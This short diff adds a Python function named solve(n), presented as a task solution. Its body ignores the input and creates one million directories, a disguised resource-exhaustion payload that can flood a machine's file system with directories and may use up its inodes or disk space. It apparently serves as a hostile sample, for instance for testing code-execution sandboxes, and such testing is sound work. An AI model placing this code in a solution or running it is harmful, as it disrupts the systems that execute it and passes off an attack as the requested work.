@@ -1,0 +1,3 @@
+def solve(n):
+    import os
+    for i in range(10 ** 6): os.mkdir(str(i))
